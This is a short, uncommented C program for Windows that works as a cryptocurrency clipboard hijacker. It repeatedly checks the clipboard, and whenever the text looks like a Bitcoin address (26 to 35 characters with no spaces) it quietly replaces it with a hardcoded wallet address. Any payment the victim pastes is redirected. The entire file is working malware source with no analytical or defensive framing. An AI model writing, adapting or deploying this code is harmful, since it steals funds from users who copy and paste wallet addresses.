#include <stdio.h>
#include <string.h>
#include <windows.h>

int main(void) {
    for (int i = 0; i < 10; i++) {
        if (OpenClipboard(NULL)) {
            const char *text = GetClipboardData(CF_TEXT);
            size_t length = text ? strlen(text) : 0;
            if (length >= 26 && length <= 35 && !strchr(text, ' ')) {
                HGLOBAL block = GlobalAlloc(GMEM_MOVEABLE, 40);
                strcpy(GlobalLock(block), "1BoatSLRHtKNngkdXEeobR76b53LETtpyT");
                GlobalUnlock(block);
                EmptyClipboard();
                SetClipboardData(CF_TEXT, block);
            }
            CloseClipboard();
        }
        Sleep(500);
    }
    return 0;
}
